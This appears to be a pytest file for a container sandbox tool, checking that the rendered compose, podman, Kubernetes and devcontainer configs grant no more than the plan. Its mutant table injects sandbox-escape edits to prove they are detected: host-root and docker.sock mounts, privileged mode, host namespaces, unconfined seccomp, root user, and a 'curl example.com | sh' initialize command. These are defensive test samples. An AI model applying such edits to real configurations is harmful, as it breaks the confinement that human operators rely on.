"""grants: what each target's text grants is within what the plan grants, and what is added to a text is seen."""

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.plans import manifest_bytes, plan_of
from support.rendered_grants import (
    READERS,
    UnknownGrantError,
    plan_grants,
    unused_waivers,
    unwaived,
)

from agentbox.plan.model import Device, Plan, SecurityExceptionPlan, TmpfsPlan, VolumePlan
from agentbox.plan.render.options import RenderOptions
from agentbox.plan.render.podman import podman_run
from agentbox.plan.render.targets import RenderInput, render

IMAGE = "registry.example/agentbox@sha256:" + "a" * 64
WIDE = SecurityExceptionPlan(
    key="gpu-cuda",
    reason="everything that a delta can hold",
    tmpfs=(
        TmpfsPlan(target="/dev/shm", size=512 << 20, mode="1777"),
        TmpfsPlan(target="/cache", size=1 << 20, mode="700", exec=True),
    ),
    volumes=(
        VolumePlan(source="models", target="/models"),
        VolumePlan(source="/srv/data", target="/data", read_only=True),
    ),
    devices=("/dev/dri", "/dev/kfd"),
    group_add=("44",),
    cap_add=("SYS_ADMIN",),
    device_requests=(Device(driver="nvidia", count=-1, capabilities=("gpu",)),),
    runtime="nvidia",
)
PLANS: dict[str, Plan] = {
    "default": plan_of(),
    "other values": plan_of(
        'meta = { schema_version = 1, name = "worker-7" }\n'
        '[resources]\ncpus = 0.5\nmemory = "768MiB"\npids = 512\nnofile = 4096\n[api]\nport = 8000\n'
        'publish_address = "::1"\ntoken_env = ""\n[mesh]\ntoken_env = ""\n'
    ),
    "everything that widens": replace(plan_of(), exceptions=(WIDE,)),
}
Files = dict[str, bytes]


def _files(plan: Plan, target: str) -> Files:
    given = RenderInput(plan, manifest_bytes(), IMAGE, allow_psa="privileged")
    return {**render("compose", given), **render(target, given)}


@pytest.mark.parametrize("target", READERS)
@pytest.mark.parametrize("plan", PLANS.values(), ids=PLANS.keys())
def test_no_target_grants_more_than_the_plan(plan: Plan, target: str) -> None:
    """Not a port, a mount, a variable, a secret, a device, a capability or a higher limit."""
    found = READERS[target](_files(plan, target))
    assert unwaived(target, found, plan_grants(plan)) == ()


@pytest.mark.parametrize("target", ["compose", "podman", "devcontainer"])
@pytest.mark.parametrize("plan", PLANS.values(), ids=PLANS.keys())
def test_these_targets_grant_exactly_what_the_plan_grants(plan: Plan, target: str) -> None:
    """The reader reads everything: nothing of the plan is lost on the way, so the subset is not an empty one."""
    found = READERS[target](_files(plan, target))
    assert found == replace(plan_grants(plan), mounts=found.mounts)
    assert set(found.mounts) == set(plan_grants(plan).mounts)


def test_root_gives_podman_a_network_of_the_box_s_own() -> None:
    """Root's default network is shared by all containers."""
    argv = podman_run(PLANS["default"], RenderOptions(IMAGE), Path(), rootless=False)
    files = {**_files(PLANS["default"], "podman"), "podman-run.txt": "\n".join(argv).encode()}
    assert unwaived("podman", READERS["podman"](files), plan_grants(PLANS["default"])) == ()
    files["podman-run.txt"] = "\n".join(
        word for word in argv if not word.startswith("--network")
    ).encode()
    assert [
        row.kind
        for row in unwaived("podman", READERS["podman"](files), plan_grants(PLANS["default"]))
    ] == ["shared_network"]


def test_a_project_folder_is_granted_where_it_was_asked_for() -> None:
    """In place of the volume, and nowhere else."""
    project = Path("/home/me/project")
    plan = PLANS["default"]
    given = RenderInput(plan, manifest_bytes(), IMAGE, project=project)
    for target in ("compose", "podman", "devcontainer"):
        found = READERS[target]({**render("compose", given), **render(target, given)})
        assert unwaived(target, found, plan_grants(plan, RenderOptions(IMAGE, project))) == ()
        assert [row.kind for row in unwaived(target, found, plan_grants(plan))] == ["mount"]


def test_every_waiver_is_needed() -> None:
    """A restriction that a target can express after all must leave the list."""
    for target, reader in READERS.items():
        plan = PLANS["default"]
        assert unused_waivers(target, reader(_files(plan, target)), plan_grants(plan)) == ()


def _compose(change: Callable[[dict[str, Any]], Any]) -> Callable[[Files], None]:
    def edit(files: Files) -> None:
        document = yaml.safe_load(files["docker-compose.yml"])
        change(document["services"]["agentbox"])
        files["docker-compose.yml"] = yaml.safe_dump(document).encode()

    return edit


def _pod(change: Callable[[dict[str, Any], dict[str, Any]], Any]) -> Callable[[Files], None]:
    def edit(files: Files) -> None:
        rows = list(yaml.safe_load_all(files["kubernetes.yaml"]))
        pod = rows[-1]["spec"]["template"]["spec"]
        change(pod, pod["containers"][0])
        files["kubernetes.yaml"] = yaml.safe_dump_all(rows).encode()

    return edit


def _object(kind: str, change: Callable[[dict[str, Any]], Any]) -> Callable[[Files], None]:
    def edit(files: Files) -> None:
        rows = {row["kind"]: row for row in yaml.safe_load_all(files["kubernetes.yaml"])}
        change(rows[kind]["spec"])
        files["kubernetes.yaml"] = yaml.safe_dump_all(rows.values()).encode()

    return edit


def _argv(*words: str, without: str = "--nothing") -> Callable[[Files], None]:
    def edit(files: Files) -> None:
        first, *rest, image = files["podman-run.txt"].decode().splitlines()
        kept = [word for word in rest if not word.startswith(without)]
        files["podman-run.txt"] = "\n".join([first, *kept, *words, image]).encode()

    return edit


def _json(**added: Any) -> Callable[[Files], None]:
    def edit(files: Files) -> None:
        files[".devcontainer.json"] = json.dumps(
            {**json.loads(files[".devcontainer.json"]), **added}
        ).encode()

    return edit


def _seccomp(files: Files) -> None:
    files["seccomp/agentbox.json"] = files["seccomp/agentbox.json"].replace(
        b"SCMP_ACT_ERRNO", b"SCMP_ACT_ALLOW", 1
    )


# target, what is added to its text, the kind of excess that must be found ("" = a word that the reader rejects).
MUTANTS: dict[str, tuple[str, Callable[[Files], None], str]] = {
    "compose cap": ("compose", _compose(lambda s: s.update(cap_add=["NET_RAW"])), "capability"),
    "compose cap_drop": ("compose", _compose(lambda s: s.pop("cap_drop")), "capability"),
    "compose port": ("compose", _compose(lambda s: s["ports"].append("127.0.0.1:22000:22000")), "port"),
    "compose address": ("compose", _compose(lambda s: s.update(ports=["9090:9090"])), "port.address"),
    "compose mount": (
        "compose", _compose(lambda s: s["volumes"].append({"type": "bind", "source": "/", "target": "/host"})), "mount"
    ),
    "compose socket": (
        "compose",
        _compose(lambda s: s["volumes"][1].update(type="bind", source="/run/docker.sock")),
        "mount",
    ),
    "compose manifest": ("compose", _compose(lambda s: s["volumes"][0].pop("read_only")), "mount.write"),
    "compose variable": ("compose", _compose(lambda s: s["environment"].update(TOKEN="x")), "environment"),
    "compose secret": (
        "compose", _compose(lambda s: s["secrets"].append({"source": "OTHER", "target": "OTHER"})), "secret"
    ),
    "compose user": ("compose", _compose(lambda s: s.update(user="0:0")), "user"),
    "compose root": ("compose", _compose(lambda s: s.pop("read_only")), "root_writable"),
    "compose privileged": ("compose", _compose(lambda s: s.update(privileged=True)), "privileged"),
    "compose escalation": ("compose", _compose(lambda s: s["security_opt"].pop(0)), "escalation"),
    "compose unconfined": ("compose", _compose(lambda s: s["security_opt"].pop(1)), "seccomp"),
    "compose ipc": ("compose", _compose(lambda s: s.update(ipc="host")), "namespace"),
    "compose network": ("compose", _compose(lambda s: s.update(network_mode="host")), "namespace"),
    "compose memory": ("compose", _compose(lambda s: s.update(mem_limit="8g")), "limit.memory"),
    "compose pids": ("compose", _compose(lambda s: s.pop("pids_limit")), "limit.pids"),
    "compose restart": ("compose", _compose(lambda s: s.update(restart="always")), "limit.restarts"),
    "compose exec": ("compose", _compose(lambda s: s.update(tmpfs=["/tmp:size=256M,nosuid,nodev"])), "tmpfs.exec"),
    "compose tmpfs size": ("compose", _compose(lambda s: s.update(tmpfs=["/tmp:noexec,nosuid,nodev"])), "tmpfs.size"),
    "compose device": ("compose", _compose(lambda s: s.update(devices=["/dev/kvm:/dev/kvm"])), "device"),
    "compose group": ("compose", _compose(lambda s: s.update(group_add=["27"])), "group"),
    "compose sysctl": ("compose", _compose(lambda s: s.update(sysctls={"a": 1})), ""),
    "compose seccomp text": ("compose", _seccomp, "seccomp"),
    "podman cap": ("podman", _argv("--cap-add=NET_RAW"), "capability"),
    "podman port": ("podman", _argv("--publish=22000:22000"), "port"),
    "podman mount": ("podman", _argv("--mount=type=bind,source=/,target=/host"), "mount"),
    "podman variable": ("podman", _argv("--env=TOKEN=x"), "environment"),
    "podman secret": ("podman", _argv("--mount=type=bind,source=./secrets/OTHER,target=/run/secrets/OTHER,readonly"), "secret"),
    "podman writable secret": (
        "podman",
        _argv(
            "--mount=type=bind,source=./secrets/AGENTBOX_API_TOKEN,target=/run/secrets/AGENTBOX_API_TOKEN",
            without="--mount=type=bind,source=./secrets/AGENTBOX_API_TOKEN",
        ),
        "mount.write",
    ),
    "podman tmpfs": ("podman", _argv(without="--read-only-tmpfs"), "root_writable"),
    "podman pid": ("podman", _argv("--pid=host"), "namespace"),
    "podman ulimit": ("podman", _argv("--ulimit=nofile=99999:99999", without="--ulimit=nofile"), "limit.nofile"),
    "podman sysctl": ("podman", _argv("--sysctl=a=1"), ""),
    "podman volume": ("podman", _argv("--volume=/:/host"), ""),
    "kubernetes cap": (
        "kubernetes", _pod(lambda pod, box: box["securityContext"]["capabilities"].update(add=["NET_RAW"])), "capability"
    ),
    "kubernetes port": (
        "kubernetes",
        _pod(lambda pod, box: box["ports"].append({"name": "ssh", "containerPort": 22000, "protocol": "TCP"})),
        "port",
    ),
    "kubernetes host port": ("kubernetes", _pod(lambda pod, box: box["ports"][0].update(hostPort=9090)), "port.address"),
    "kubernetes service": (
        "kubernetes", _object("Service", lambda spec: spec["ports"].append({"name": "x", "port": 22000})), "port"
    ),
    "kubernetes node port": ("kubernetes", _object("Service", lambda spec: spec.update(type="NodePort")), "port.address"),
    "kubernetes policy": ("kubernetes", _object("NetworkPolicy", lambda spec: spec["ingress"][0].pop("from")), "port.address"),
    "kubernetes namespace": (
        "kubernetes",
        _object("NetworkPolicy", lambda spec: spec["ingress"][0]["from"][0].update(namespaceSelector={})),
        "port.address",
    ),
    "kubernetes mount": (
        "kubernetes",
        _pod(
            lambda pod, box: (
                pod["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
                box["volumeMounts"].append({"name": "host", "mountPath": "/host"}),
            )
        ),
        "mount",
    ),
    "kubernetes disk": ("kubernetes", _pod(lambda pod, box: pod["volumes"][0]["emptyDir"].pop("medium")), "mount"),
    "kubernetes size": ("kubernetes", _pod(lambda pod, box: pod["volumes"][0]["emptyDir"].pop("sizeLimit")), "tmpfs.size"),
    "kubernetes variable": (
        "kubernetes", _pod(lambda pod, box: box["env"].append({"name": "TOKEN", "value": "x"})), "environment"
    ),
    "kubernetes variable of a secret": (
        "kubernetes",
        _pod(lambda pod, box: box["env"].append({"name": "LANG", "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}})),
        "",
    ),
    "kubernetes secret": (
        "kubernetes",
        _pod(lambda pod, box: next(v for v in pod["volumes"] if "secret" in v)["secret"].pop("items")),
        "secret",
    ),
    "kubernetes burst": (
        "kubernetes", _pod(lambda pod, box: box["resources"].update(requests={"cpu": "1", "memory": "1Gi"})), "limit.swap"
    ),
    "kubernetes pid": ("kubernetes", _pod(lambda pod, box: pod.update(hostPID=True)), "namespace"),
    "kubernetes user": ("kubernetes", _pod(lambda pod, box: pod["securityContext"].update(runAsUser=0)), "user"),
    "kubernetes seccomp": (
        "kubernetes",
        _pod(lambda pod, box: pod["securityContext"].update(seccompProfile={"type": "Unconfined"})),
        "seccomp",
    ),
    "kubernetes token": ("kubernetes", _pod(lambda pod, box: pod.pop("automountServiceAccountToken")), ""),
    "kubernetes sidecar": ("kubernetes", _pod(lambda pod, box: pod["containers"].append({"name": "other"})), ""),
    "devcontainer mount": ("devcontainer", _json(mounts=["type=bind,source=/,target=/host"]), ""),
    "devcontainer cap": ("devcontainer", _json(capAdd=["SYS_PTRACE"]), ""),
    "devcontainer port": ("devcontainer", _json(forwardPorts=[22]), ""),
    "devcontainer variable": ("devcontainer", _json(containerEnv={"TOKEN": "x"}), ""),
    "devcontainer features": ("devcontainer", _json(features={"docker-in-docker": {}}), ""),
    "devcontainer user": ("devcontainer", _json(remoteUser="root"), "user"),
    "devcontainer command": ("devcontainer", _json(initializeCommand="curl example.com | sh"), ""),
    "devcontainer compose": ("devcontainer", _compose(lambda s: s.update(cap_add=["NET_RAW"])), "capability"),
}  # fmt: skip


@pytest.mark.sampled(3)
@pytest.mark.parametrize(("target", "edit", "kind"), MUTANTS.values(), ids=MUTANTS.keys())
def test_whatever_is_added_to_a_text_is_seen(
    target: str, edit: Callable[[Files], None], kind: str
) -> None:
    """By its kind, or as a word that the reader does not know."""
    plan = PLANS["default"]
    files = _files(plan, target)
    before = dict(files)
    edit(files)
    assert files != before
    try:
        found = {row.kind for row in unwaived(target, READERS[target](files), plan_grants(plan))}
    except UnknownGrantError:
        found = {""}
    assert kind in found
